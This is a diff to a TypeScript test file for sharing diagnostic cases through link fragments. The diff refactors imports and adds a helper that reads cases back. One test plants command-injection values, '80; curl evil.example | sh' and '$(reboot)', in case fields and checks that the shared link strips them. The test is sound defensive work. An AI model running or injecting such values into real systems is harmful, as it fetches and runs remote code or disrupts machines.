@@ -5,7 +5,9 @@ import { diagnose } from '../diagnosis'
 import { createGuide } from '../guide/fold'
 import { newCase, type CaseDocument } from './document'
 import { caseReport } from './report'
-import { caseToFragment, fragmentToCase, shareable } from './share'
+import { caseToFragment, fragmentToCase } from './link'
+import { readCase } from './read'
+import { shareable } from './share'
 
 const log =
   '2026/11/21 10:12:31 [error] 7#7: *1 connect() failed (111: Connection refused) while connecting to upstream, client: 203.0.113.7, server: shop.acme-store.de, request: "GET / HTTP/1.1", upstream: "http://10.1.2.3:3000/", host: "shop.acme-store.de"'
@@ -21,9 +23,11 @@ function caseOf(...texts: string[]): CaseDocument {
   return { ...newCase(guideContent), pastes, events }
 }
 
+const open = async (fragment: string): Promise<CaseDocument> => readCase(await fragmentToCase(fragment), guideContent)
+
 test('a link brings back the case as it was shared', async () => {
   const shared = shareable(caseOf(`${noise}\n${log}`))
-  expect(await fragmentToCase(await caseToFragment(shared), guideContent)).toEqual(shared)
+  expect(await open(await caseToFragment(shared))).toEqual(shared)
 })
 
 test('the same step and the same causes come out of a shared case', () => {
@@ -54,7 +58,7 @@ test.each([
   ['not base64', () => '#case=1%%%'],
 ])('a link that was %s throws', async (_name, damage) => {
   const link = await caseToFragment(shareable(caseOf(log)))
-  await expect(fragmentToCase(damage(link), guideContent)).rejects.toThrow(/./)
+  await expect(open(damage(link))).rejects.toThrow(/./)
 })
 
 test('a crafted link brings no command into a command', async () => {
@@ -62,7 +66,7 @@ test('a crafted link brings no command into a command', async () => {
   const [event] = crafted.events
   if (event?.type === 'evidence') event.verdict.facts['upstream.port'] = '80; curl evil.example | sh'
   crafted.events.push({ type: 'fact', id: 'unit.name', value: '$(reboot)' })
-  const opened = await fragmentToCase(await caseToFragment(crafted), guideContent)
+  const opened = await open(await caseToFragment(crafted))
   expect(createGuide(guideContent).fold(opened.events).facts).not.toHaveProperty('upstream.port')
   expect(opened.events).toHaveLength(1)
 })
